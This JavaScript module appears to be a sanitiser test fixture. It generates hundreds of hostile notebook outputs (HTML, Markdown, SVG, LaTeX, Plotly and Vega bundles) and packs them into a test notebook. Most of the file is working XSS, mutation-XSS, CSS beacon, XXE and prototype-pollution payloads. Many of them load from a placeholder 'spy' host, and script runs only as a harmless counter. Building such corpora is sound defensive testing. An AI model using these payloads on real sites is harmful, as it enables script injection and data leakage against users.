// Hundreds of outputs that attack the page that shows them, made from short lists: each way to run a script or to fetch
// something, in each place that could do it. `spy` is an address that nothing may ask.

const PWN = "window.pwned=(window.pwned||0)+1";

const EVENTS =
  `abort animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforetoggle
   begin blur canplay change click close contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag
   dragend dragenter dragstart drop durationchange end ended error finish focus focusin focusout formdata fullscreenchange
   gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadstart message mousedown mouseenter
   mouseleave mousemove mouseout mouseover mouseup mousewheel pageshow paste pointerdown pointerenter pointermove
   pointerover pointerrawupdate popstate ratechange repeat reset resize scroll scrollend search securitypolicyviolation
   select selectionchange selectstart show slotchange start submit toggle touchstart transitionend transitionrun
   transitionstart unhandledrejection wheel`.split(/\s+/);

const TAGS = "a b body details div form html iframe img input marquee object p select svg table td video x-y".split(
  " ",
);

const SCRIPTS = (spy) => [
  `javascript:${PWN}`,
  `JaVaScRiPt:${PWN}`,
  `&#106;avascript:${PWN}`,
  `java&Tab;script:${PWN}`,
  `java&NewLine;script&colon;${PWN}`,
  `&#1;javascript:${PWN}`,
  `\u00a0javascript:${PWN}`,
  `javascript://%0a${PWN}`,
  `javascript&#58;${PWN}`,
  `vbscript:${PWN}`,
  `data:text/html,<script>top.${PWN}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.${PWN}'/>`,
  `blob:null/0`,
  `filesystem:${spy}/x`,
  `view-source:${spy}/x`,
  `//${spy.slice("http://".length)}/relative`,
  `\\\\${spy.slice("http://".length)}\\back`,
  `${spy}/far`,
];

/** Elements that take an address, which stands for `@`. */
const ADDRESSED = [
  `<img src="@">`,
  `<img srcset="@ 1x, @ 2x">`,
  `<img lowsrc="@" dynsrc="@">`,
  `<iframe src="@"></iframe>`,
  `<object data="@" classid="@" codebase="@"></object>`,
  `<embed src="@">`,
  `<video src="@" poster="@" autoplay><track default src="@"></video>`,
  `<audio autoplay><source src="@"></audio>`,
  `<form action="@" id="f"><input type="submit" formaction="@"></form>`,
  `<input type="image" src="@">`,
  `<link rel="stylesheet" href="@"><link rel="icon" href="@"><link rel="prefetch" href="@"><link rel="modulepreload" href="@">`,
  `<link rel="import" href="@"><link rel="manifest" href="@"><link rel="preconnect" href="@">`,
  `<base href="@">`,
  `<meta http-equiv="refresh" content="0;url=@">`,
  `<svg><image href="@"/><use href="@#x"/><feImage href="@"/></svg>`,
  `<svg><script href="@"></script><a xlink:href="@"><rect width=9 height=9></rect></a></svg>`,
  `<svg><animate attributeName="href" values="@"/><set attributeName="xlink:href" to="@"/></svg>`,
  `<math><maction actiontype="statusline" xlink:href="@">x</maction></math><math href="@">x</math>`,
  `<table background="@"><tr background="@"><td background="@">x</table>`,
  `<body background="@">`,
  `<blockquote cite="@"><q cite="@">x</q><del cite="@">x</del></blockquote>`,
  `<script src="@"></script><script type="module" src="@"></script>`,
  `<frameset><frame src="@"></frameset>`,
  `<applet code="@" archive="@"></applet>`,
  `<portal src="@"></portal><fencedframe src="@"></fencedframe>`,
  `<a href="@" ping="@" target="_top">x</a><area href="@">`,
  `<p style="background: url('@'); list-style: url('@'); content: url('@'); cursor: url('@'), auto">x</p>`,
  `<style>@import "@"; * { background: url(@) }</style>`,
];

/** HTML that changes its meaning when it is parsed again. */
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${PWN}&gt;">`,
  `<math><mtext><table><mglyph><style><math></style><img src onerror=${PWN}>`,
  `<svg><style><img title="</style><img src onerror=${PWN}>">`,
  `<svg></p><style><a title="</style><img src onerror=${PWN}>">`,
  `<svg><desc><noscript></desc></noscript><img src onerror=${PWN}>`,
  `<svg><foreignObject><math><style><img title="</style></math><img src onerror=${PWN}>">`,
  `<svg><title><style><img title="</style></title><img src onerror=${PWN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PWN}>`,
  `<table><caption><svg><title><table><caption></caption></table></title><style><a title="</style><img src onerror=${PWN}>">`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=${PWN}>">`,
  `<math><annotation-xml encoding="image/svg+xml"><svg><script>${PWN}</script></svg></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src onerror=${PWN}>">`,
  `<noembed><p title="</noembed><img src onerror=${PWN}>">`,
  `<noframes><p title="</noframes><img src onerror=${PWN}>">`,
  `<iframe><p title="</iframe><img src onerror=${PWN}>">`,
  `<xmp><p title="</xmp><img src onerror=${PWN}>">`,
  `<textarea><p title="</textarea><img src onerror=${PWN}>">`,
  `<title><p title="</title><img src onerror=${PWN}>">`,
  `<template><p title="</template><img src onerror=${PWN}>">`,
  `<select><template><style><!--</style><a title="--><img src onerror=${PWN}>"></template></select>`,
  `<select><option><style></option></select><img src onerror=${PWN}></style>`,
  `<p title="\`onmouseover=${PWN} \`">x</p><img alt="\`\`onerror=${PWN}">`,
  `<div title="a&quot; onclick=${PWN} x=&quot;">x</div><div title='"onclick=${PWN} x="'>x</div>`,
  `<![CDATA[><img src onerror=${PWN}>]]><?xml <img src onerror=${PWN}> ?><!x <img src onerror=${PWN}>`,
  `<!--><img src onerror=${PWN}>--><!---><img src onerror=${PWN}>--><!--a--!><img src onerror=${PWN}>-->`,
  `</br title="<img src onerror=${PWN}>"></p title="<img src onerror=${PWN}>">`,
  `<a<b onclick=${PWN}>x</a<b><img/src/onerror=${PWN}><img\u000csrc\u000conerror=${PWN}>`,
  `<sc<script>ript>${PWN}</sc</script>ript><scr\0ipt>${PWN}</scr\0ipt>`,
  `&lt;img src onerror=${PWN}&gt;&#60;script>${PWN}&#60;/script>`,
  `<iframe srcdoc="&lt;script&gt;parent.${PWN}&lt;/script&gt;"></iframe>`,
  `<template shadowrootmode="open"><script>${PWN}</script><style>* { display: none }</style></template>`,
  `<p is="x-y" slot="a" part="b" nonce="c" exportparts="d" popover id="e"></p><button popovertarget="e">x</button>`,
  `<dialog open><form method="dialog"><button autofocus onfocus=${PWN}>x</button></form></dialog>`,
  `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["/x"]}]}</script><script type="importmap">{}</script>`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name="referrer" content="unsafe-url">`,
  `<meta charset="utf-7">+ADw-script+AD4-${PWN}+ADw-/script+AD4-`,
];

const NAMES =
  "body cookie documentElement forms head images location Plotly PlotlyConfig querySelector title URL".split(" ");

const styles = (spy) => [
  "position: fixed; inset: 0; z-index: 2147483647; background: red",
  "position:absolute;top:-9999px",
  "margin: -9999px; transform: scale(999); opacity: 0",
  `background-image: url(${spy}/a)`,
  `background: \\75 rl(${spy}/b)`,
  `background: u\\72l(${spy}/c)`,
  `b\\61ckground: url(${spy}/d)`,
  `color: red/**/;background/**/:url(${spy}/e)`,
  `color: rgb(0,0,0);} body { background: url(${spy}/f)`,
  `--a: url(${spy}/g); background: var(--a)`,
  `behavior: url(${spy}/h); -moz-binding: url(${spy}/i)`,
  `width: expression(${PWN})`,
  `background-color: image-set("${spy}/j" 1x)`,
  `text-align: right; @import url(${spy}/k)`,
  `font-family: "x"; src: url(${spy}/l)`,
  `mask: url(${spy}/m); filter: url(${spy}/n#x); clip-path: url(${spy}/o#x)`,
  `animation: x 1s; transition: all 1s; will-change: contents`,
];

const markdown = (spy) => [
  ...[`javascript:${PWN}`, `JAVASCRIPT:${PWN}`, `data:text/html,<script>${PWN}</script>`, `vbscript:x`].flatMap(
    (url) => [
      `[a](${url})`,
      `[a](<${url}>)`,
      `![a](${url})`,
      `<${url}>`,
      `[a][b]\n\n[b]: ${url}`,
      `[![a](${url})](${url} "t\\"onclick=${PWN}")`,
    ],
  ),
  `![a](${spy}/md "x")`,
  `![a][r]\n\n[r]: ${spy}/ref`,
  `[a](#"onclick=${PWN}) [b](x"onclick="${PWN})`,
  `# <script>${PWN}</script> head\n\n## <img src=x onerror=${PWN}>`,
  `\`\`\`html"onclick=${PWN}\n<script>${PWN}</script>\n\`\`\``,
  `| <img src=x onerror=${PWN}> | \`</code><script>${PWN}</script>\` |\n|:-"onclick=${PWN}|---|`,
  `<details open ontoggle=${PWN}>\n\n**x**\n\n</details>`,
  `* <script>\n* ${PWN}</script>`,
  `$$\\href{javascript:${PWN}}{x} \\class{a}{b} \\style{background:url(${spy}/tex)}{x}$$`,
  `www.a.b"onclick=${PWN} http://a.b/"onclick=${PWN} a@b.c"onclick=${PWN}`,
  `![a](attachment:a"onerror=${PWN})`,
  `&lt;script&gt;${PWN}&lt;/script&gt; &#60;img src=x onerror=${PWN}&#62;`,
];

/** Figures, each with the attack in one place. */
function figures(spy) {
  const bad = `<a href="javascript:${PWN}">a</a><img src=x onerror=${PWN}><script>${PWN}</script><b style="background:url(${spy}/p)">b</b>`;
  const line = { type: "scatter", x: [1, 2, 3], y: [1, 3, 2] };
  const image = (source) => ({ data: [line], layout: { images: [{ source, x: 0, y: 1, sizex: 1, sizey: 1 }] } });
  return [
    ...["text", "hovertext", "hovertemplate", "texttemplate", "name", "legendgroup", "ids", "customdata", "meta"].map(
      (key) => ({
        data: [{ ...line, mode: "markers+text", [key]: ["name", "legendgroup"].includes(key) ? bad : [bad, bad, bad] }],
        layout: { showlegend: true },
      }),
    ),
    ...[{ title: bad }, { title: { text: bad, subtitle: { text: bad } } }, { xaxis: { title: { text: bad } } }].map(
      (layout) => ({ data: [line], layout }),
    ),
    { data: [line], layout: { height: `1px"><img src=x onerror=${PWN}>`, width: bad } },
    {
      data: [line],
      layout: { xaxis: { ticktext: [bad], tickvals: [2], tickprefix: bad, ticksuffix: bad, tickformat: bad } },
    },
    { data: [line], layout: { annotations: [{ text: bad, hovertext: bad, captureevents: true, x: 2, y: 2 }] } },
    {
      data: [line],
      layout: { shapes: [{ type: "path", path: `M0,0"/><script>${PWN}</script>`, label: { text: bad } }] },
    },
    {
      data: [line],
      layout: { sliders: [{ currentvalue: { prefix: bad }, steps: [{ label: bad, method: "skip", args: [] }] }] },
    },
    {
      data: [line],
      layout: { updatemenus: [{ buttons: [{ label: bad, method: "relayout", args: ["title.text", bad] }] }] },
    },
    { data: [line], layout: { legend: { title: { text: bad } }, modebar: { add: [bad] }, colorway: [bad] } },
    {
      data: [line],
      layout: {
        font: { family: `x";background:url(${spy}/font)`, color: `url(${spy}/colour)` },
        paper_bgcolor: `url(${spy}/paper)`,
      },
    },
    {
      data: [
        { ...line, line: { color: `url(${spy}/line)`, dash: bad }, marker: { symbol: bad, color: `url(${spy}/mark)` } },
      ],
      layout: {},
    },
    {
      data: [line],
      layout: { template: { layout: { images: [{ source: `${spy}/template`, x: 0, y: 1, sizex: 1, sizey: 1 }] } } },
    },
    image(`${spy}/layout`),
    image(`javascript:${PWN}`),
    image(`data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${PWN}'><script>${PWN}</script></svg>`),
    { data: [{ type: "image", source: `${spy}/image` }], layout: {} },
    { data: [{ type: "table", header: { values: [[bad]] }, cells: { values: [[bad]], format: [bad] } }], layout: {} },
    { data: [{ type: "pie", labels: [bad, "b"], values: [1, 2], textinfo: "label" }], layout: {} },
    { data: [{ type: "sunburst", labels: [bad, "b"], parents: ["", bad] }], layout: {} },
    { data: [{ type: "treemap", labels: [bad, "b"], parents: ["", bad] }], layout: {} },
    {
      data: [
        { type: "sankey", node: { label: [bad, "b"] }, link: { source: [0], target: [1], value: [1], label: [bad] } },
      ],
      layout: {},
    },
    { data: [{ type: "indicator", value: 1, title: { text: bad }, number: { prefix: bad } }], layout: {} },
    { data: [{ type: "bar", x: [bad, "b"], y: [1, 2] }], layout: {} },
    {
      data: [
        {
          type: "heatmap",
          z: [[1, 2]],
          colorbar: { title: { text: bad } },
          colorscale: [
            [0, bad],
            [1, bad],
          ],
        },
      ],
      layout: {},
    },
    { data: [{ type: "scattergeo", lon: [0], lat: [0], text: bad }], layout: { geo: { resolution: 50 } } },
    { data: [{ type: "choropleth", locations: ["USA"], z: [1], geojson: `${spy}/geo` }], layout: {} },
    { data: [{ type: "scattermap", lon: [0], lat: [0] }], layout: { map: { style: `${spy}/style` } } },
    {
      data: [{ type: "scattermapbox", lon: [0], lat: [0] }],
      layout: { mapbox: { style: `${spy}/style`, accesstoken: "pk.x" } },
    },
    {
      data: [{ type: "scatter3d", x: [1], y: [1], z: [1], text: bad }],
      layout: { scene: { annotations: [{ text: bad }] } },
    },
    { data: [{ type: bad }], layout: bad, frames: bad },
    { data: [line], layout: {}, frames: [{ name: bad, data: [{ name: bad }], layout: { title: { text: bad } } }] },
    {
      data: [line],
      layout: {},
      config: { plotlyServerURL: spy, topojsonURL: spy, mapboxAccessToken: bad, modeBarButtonsToAdd: [bad] },
    },
    {
      data: [JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"y":[1]}')],
      layout: JSON.parse('{"__proto__":{"polluted":1}}'),
    },
  ];
}

const others = (spy) => [
  ...[
    "application/javascript",
    "text/javascript",
    "application/vnd.bokehjs_exec.v0+json",
    "application/vnd.holoviews_exec.v0+json",
  ].map((mime) => ({ [mime]: PWN, "text/html": `<script>${PWN}</script>` })),
  ...["application/vnd.vega.v5+json", "application/vnd.vegalite.v5+json"].map((mime) => ({
    [mime]: {
      data: { url: `${spy}/vega` },
      signals: [{ name: "x", update: PWN }],
      usermeta: { embedOptions: { loader: spy } },
    },
  })),
  { "application/vnd.jupyter.widget-view+json": { model_id: `"><script>${PWN}</script>` } },
  { "application/geo+json": { type: "Feature", properties: { url: `${spy}/geo` } } },
  { "application/pdf": "JVBERi0=", "text/plain": `<script>${PWN}</script>` },
  { "text/latex": `$\\href{javascript:${PWN}}{x}$ \\includegraphics{${spy}/latex}` },
  {
    "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" onload="${PWN}"><script>${PWN}</script><image href="${spy}/i"/></svg>`,
  },
  {
    "image/svg+xml": `<?xml-stylesheet href="${spy}/xsl"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${spy}/xxe">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  },
  {
    "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${spy}/f"/></foreignObject><style>@import url(${spy}/s)</style></svg>`,
  },
  { "image/png": `AAAA" onerror="${PWN}`, "text/plain": `"><img src=x onerror=${PWN}>` },
  { [`image/png" onerror="${PWN}`]: "AAAA" },
  { "application/json": { [`</script><img src=x onerror=${PWN}>`]: `</pre><script>${PWN}</script>` } },
];

/**
 * The corpus.
 *
 * @param {string} spy
 * @returns {{ html: string[], markdown: string[], figures: object[], bundles: object[] }} bundles are all, as outputs carry them
 */
export function hostileCorpus(spy) {
  const html = [
    ...SCRIPTS(spy).flatMap((url) => [`<a href="${url}">a</a>`, `<img src="${url}" alt="i">`]),
    ...ADDRESSED.flatMap((element) =>
      [`javascript:${PWN}`, `${spy}/addressed`].map((url) => element.replaceAll("@", url)),
    ),
    ...EVENTS.map((event, i) => `<${TAGS[i % TAGS.length]} tabindex=0 autofocus on${event}="${PWN}">x`),
    ...MUTATIONS,
    ...styles(spy).map((style) => `<p style='${style}'>x</p>`),
    ...NAMES.flatMap((name) => [
      `<a id="${name}"></a><a id="${name}" name="x"></a>`,
      `<form name="${name}"><input name="${name}"></form><img name="${name}">`,
    ]),
  ];
  const drawn = figures(spy);
  const texts = markdown(spy);
  const bundles = [
    ...html.map((text) => ({ "text/html": text })),
    ...texts.map((text) => ({ "text/markdown": text })),
    ...drawn.map((figure) => ({ "application/vnd.plotly.v1+json": figure, "text/plain": "figure" })),
    ...others(spy),
  ];
  return { html, markdown: texts, figures: drawn, bundles };
}

/** A notebook that has shown all of them, each in a cell of its own. */
export function corpusNotebook(spy) {
  const cells = hostileCorpus(spy).bundles.map((data, i) => ({
    cell_type: "code",
    id: `c${i}`,
    metadata: {},
    source: `show(${i})`,
    execution_count: i + 1,
    outputs: [{ output_type: "display_data", metadata: {}, data }],
  }));
  return { nbformat: 4, nbformat_minor: 5, metadata: { language_info: { name: "typescript" } }, cells };
}
